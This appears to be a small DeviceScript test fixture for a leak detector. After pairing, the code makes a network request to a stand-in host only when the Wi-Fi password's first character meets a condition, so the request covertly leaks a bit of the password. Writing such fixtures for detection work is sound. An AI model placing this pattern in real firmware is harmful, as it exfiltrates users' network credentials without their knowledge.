// D01: a request only if the first character is a letter.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const first = psk.charCodeAt(0);
  if (first < 65) return;
  const response = await fetch("https://cloud.example/letter"); // leak: wifi.psk
  await response.close();
});
